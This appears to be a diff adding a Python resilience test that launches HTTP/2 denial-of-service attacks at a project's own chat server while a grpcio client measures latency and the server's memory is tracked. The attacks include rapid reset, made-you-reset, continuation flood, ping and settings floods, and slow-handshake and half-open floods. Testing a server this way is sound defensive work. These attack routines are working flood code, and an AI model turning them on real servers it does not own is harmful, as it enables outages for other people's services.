@@ -1,0 +1,328 @@
+"""Attacks on HTTP/2, one after the other, while somebody talks.
+
+Each is made by a process of its own for some seconds. Meanwhile a session by grpcio says something and waits for its
+ack, again and again: its 99th percentile beside the one just before the attack is what the attack costs others. The
+memory of the server is read all the time. Behind each attack a new session must work.
+
+Needs SALON_ADDRESS and SALON_PID; `tests/foreign/run attacks` sets them. SALON_ATTACK_SECONDS: how long each attack
+goes on. Names as arguments: only these.
+"""
+
+import contextlib
+import multiprocessing
+import os
+import pathlib
+import socket
+import sys
+import threading
+import time
+import uuid
+
+sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "python"))
+
+from wire import (  # noqa: E402
+    HOST,
+    PORT,
+    Connection,
+    continuation,
+    data,
+    headers,
+    ping,
+    reset,
+    settings,
+    window_update,
+)
+
+SECONDS = float(os.environ.get("SALON_ATTACK_SECONDS", "4"))
+# Of one attack: more than any of them needs of a server that bounds it, less than an unbounded one takes.
+RSS_GROWTH_MAX = 192 << 20
+# A machine is shared by attacker, server and client, so that this says only that the server goes on serving. Ten
+# thousand sessions that begin at once are work for seconds in a build without optimisation.
+P99_MAX = 10.0
+RESETS = 100_000
+HALF_OPEN = 10_000
+
+
+def rapid_reset(state):
+    """HEADERS and RST_STREAM at once (CVE-2023-44487), a hundred thousand times."""
+    while state.going() or state.sent.value < RESETS:
+        connection = state.connect()
+        stream = 1
+        while not connection.closed and stream < 200_000:
+            burst = b"".join(headers(n) + reset(n) for n in range(stream, stream + 200, 2))
+            stream += 200
+            state.count(100)
+            if not connection.send(burst):
+                break
+            if not state.going() and state.sent.value >= RESETS:
+                break
+        state.end(connection)
+
+
+def made_you_reset(state):
+    """Streams that the server resets because of our errors (CVE-2025-8671)."""
+    while state.going():
+        connection = state.connect()
+        stream = 1
+        while not connection.closed and stream < 200_000 and state.going():
+            # A window update of nothing is an error of the stream.
+            burst = b"".join(headers(n) + window_update_of_nothing(n) for n in range(stream, stream + 40, 2))
+            stream += 40
+            state.count(20)
+            connection.send(burst)
+        state.end(connection)
+
+
+def window_update_of_nothing(stream):
+    return b"\x00\x00\x04\x08\x00" + stream.to_bytes(4, "big") + bytes(4)
+
+
+def continuation_flood(state):
+    """Headers that never end (CVE-2024-27316)."""
+    block = b"\x00\x04name\x7f\x80\x01" + b"x" * 255
+    while state.going():
+        connection = state.connect()
+        connection.send(headers(1, flags=()))
+        while state.going() and connection.send(b"".join([continuation(1, block)] * 50)):
+            state.count(50)
+        state.end(connection)
+
+
+def flood(payload, frames):
+    def flooding(state):
+        while state.going():
+            connection = state.connect()
+            while state.going() and connection.send(payload):
+                state.count(frames)
+            state.end(connection)
+
+    return flooding
+
+
+def small_data(state):
+    """One byte in a frame, and nothing in a frame."""
+    while state.going():
+        connection = state.connect()
+        connection.send(headers(1))
+        burst = data(1, b"\x00") * 200 + data(1) * 200
+        while state.going() and connection.send(burst):
+            state.count(400)
+        state.end(connection)
+
+
+def zero_window(state):
+    """Calls whose answers nobody takes: windows of nothing, on many connections."""
+    open_ones = []
+    while state.going():
+        if len(open_ones) < 100:
+            connection = state.connect({4: 0})
+            connection.send(b"".join(headers(n) for n in range(1, 200, 2)))
+            state.count(100)
+            open_ones.append(connection)
+        for connection in open_ones:
+            connection.drain()
+            connection.send(ping())
+        time.sleep(0.01)
+    for connection in open_ones:
+        state.end(connection)
+
+
+def slow_handshake(state):
+    """Sockets that begin, and go on by a byte now and then."""
+    open_ones = []
+    while state.going():
+        if len(open_ones) < 500:
+            with contextlib.suppress(OSError):
+                open_ones.append(socket.create_connection((HOST, int(PORT)), timeout=1))
+                open_ones[-1].send(b"PRI * HT")
+                state.count(1)
+                state.connections.value += 1
+        else:
+            time.sleep(0.05)
+        state.started.set()
+    for one in open_ones:
+        one.close()
+
+
+def half_open(state):
+    """Ten thousand streams that never say anything."""
+    open_ones = []
+    while state.going() or len(open_ones) * 200 < HALF_OPEN:
+        if len(open_ones) * 200 < HALF_OPEN:
+            connection = state.connect()
+            connection.send(b"".join(headers(n) for n in range(1, 400, 2)))
+            state.count(200)
+            open_ones.append(connection)
+        else:
+            for connection in open_ones:
+                connection.drain()
+            time.sleep(0.05)
+    for connection in open_ones:
+        state.end(connection)
+
+
+# Whether the server must end the connection of the attacker, besides going on.
+ATTACKS = {
+    "rapid reset": (rapid_reset, True),
+    "made you reset": (made_you_reset, True),
+    "continuation flood": (continuation_flood, True),
+    "ping flood": (flood(ping() * 500, 500), False),
+    "settings flood": (flood(settings() * 500, 500), False),
+    "small data": (small_data, True),
+    "zero windows": (zero_window, False),
+    "slow handshakes": (slow_handshake, False),
+    "half-open streams": (half_open, False),
+}
+
+
+class State:
+    """What attacker and watcher share."""
+
+    def __init__(self, context):
+        self.stop, self.started = context.Event(), context.Event()
+        # Frames that were sent, connections that were made, those that the server ended, and those with a GOAWAY.
+        self.sent, self.connections, self.ended, self.told = (context.Value("L", 0) for _ in range(4))
+
+    def going(self):
+        return not self.stop.is_set()
+
+    def count(self, frames):
+        self.sent.value += frames
+        self.started.set()
+
+    def connect(self, values=None):
+        while True:
+            try:
+                connection = Connection(values)
+                break
+            except OSError:
+                time.sleep(0.01)
+        self.connections.value += 1
+        return connection
+
+    def end(self, connection):
+        connection.drain(0.05)
+        self.ended.value += connection.closed
+        self.told.value += connection.goaway is not None
+        connection.close()
+
+
+class Talker:
+    """Somebody who talks: a session by grpcio."""
+
+    def __init__(self):
+        import grpc
+        from session import generate
+
+        root = pathlib.Path(__file__).resolve().parents[3]
+        self.pb, services = generate(str(root / "proto"), "room/v1/room.proto")
+        self.channel = grpc.insecure_channel(os.environ["SALON_ADDRESS"])
+        self.rooms = services.RoomServiceStub(self.channel)
+        self.room = self.rooms.CreateRoom(self.pb.CreateRoomRequest(name="Attacked", created_by="admin")).room_id
+        self.session = self.join("talker")
+
+    def join(self, user):
+        from session import Event, Session
+
+        session = Session(self.pb.ClientMessage, self.rooms.RoomSession, Event, user)
+        session.send(join=self.pb.JoinRoom(room_id=self.room, user_id=user, display_name=user))
+        session.expect("room_state")
+        return session
+
+    def echo(self, session=None):
+        session = session or self.session
+        request, begun = uuid.uuid4().hex, time.monotonic()
+        session.send(request, message=self.pb.SendMessage(content="I am still here"))
+        answer = session.take(lambda event: event.request_id == request, "the ack")
+        assert answer.kind == "ack", answer.message
+        session.drop("message_received")
+        return time.monotonic() - begun
+
+    def p99(self, seconds):
+        times, end = [], time.monotonic() + seconds
+        while time.monotonic() < end or len(times) < 100:
+            times.append(self.echo())
+        times.sort()
+        return times[len(times) * 99 // 100], len(times)
+
+
+def rss():
+    for line in pathlib.Path(f"/proc/{os.environ['SALON_PID']}/status").read_text().splitlines():
+        if line.startswith("VmRSS:"):
+            return int(line.split()[1]) << 10
+    raise RuntimeError("the server is gone")
+
+
+class Memory:
+    """The most that the server had, until it is asked."""
+
+    def __init__(self):
+        self.peak, self._stop = rss(), threading.Event()
+        self._thread = threading.Thread(target=self._watch)
+        self._thread.start()
+
+    def _watch(self):
+        while not self._stop.wait(0.02):
+            self.peak = max(self.peak, rss())
+
+    def end(self):
+        self._stop.set()
+        self._thread.join()
+        return self.peak
+
+
+def attack(name, state):
+    ATTACKS[name][0](state)
+
+
+def run(name, talker):
+    must_end = ATTACKS[name][1]
+    # Not by fork: this process has threads.
+    context = multiprocessing.get_context("spawn")
+    state, before_rss = State(context), rss()
+    before, _ = talker.p99(SECONDS / 2)
+    memory = Memory()
+    attacker = context.Process(target=attack, args=(name, state), daemon=True)
+    attacker.start()
+    try:
+        assert state.started.wait(30), "the attack does not begin"
+        during, echoes = talker.p99(SECONDS)
+    finally:
+        state.stop.set()
+        attacker.join(120)
+        peak = memory.end()
+    assert attacker.exitcode == 0, f"the attacker ended with {attacker.exitcode}"
+    ratio = during / before
+    within = "within 20 %" if ratio <= 1.2 else "beyond 20 %"
+    print(
+        f"{name}: {state.sent.value} frames on {state.connections.value} connections, {state.ended.value} ended by the "
+        f"server, {state.told.value} of them told why; p99 of {echoes} echoes {during * 1000:.1f} ms, before "
+        f"{before * 1000:.1f} ms, ratio {ratio:.2f} ({within}); memory {before_rss >> 20} MiB, at most {peak >> 20} MiB, "
+        f"then {rss() >> 20} MiB",
+        flush=True,
+    )
+    assert peak - before_rss < RSS_GROWTH_MAX, "the server's memory grows with the attack"
+    assert during < P99_MAX, "others are not served any more"
+    assert not must_end or state.ended.value > 0, "the server bears with it for ever"
+    # Who comes now is served as ever.
+    late = talker.join("late")
+    talker.echo(late)
+    late.half_close()
+
+
+def main():
+    from session import Failure
+
+    talker, failed = Talker(), []
+    for name in sys.argv[1:] or ATTACKS:
+        try:
+            run(name, talker)
+        except (AssertionError, Failure) as error:
+            print(f"{name}: FAILED: {error}", flush=True)
+            failed.append(name)
+    print(f"{len(failed)} attacks had success" if failed else "no attack had success")
+    sys.exit(1 if failed else 0)
+
+
+if __name__ == "__main__":
+    main()
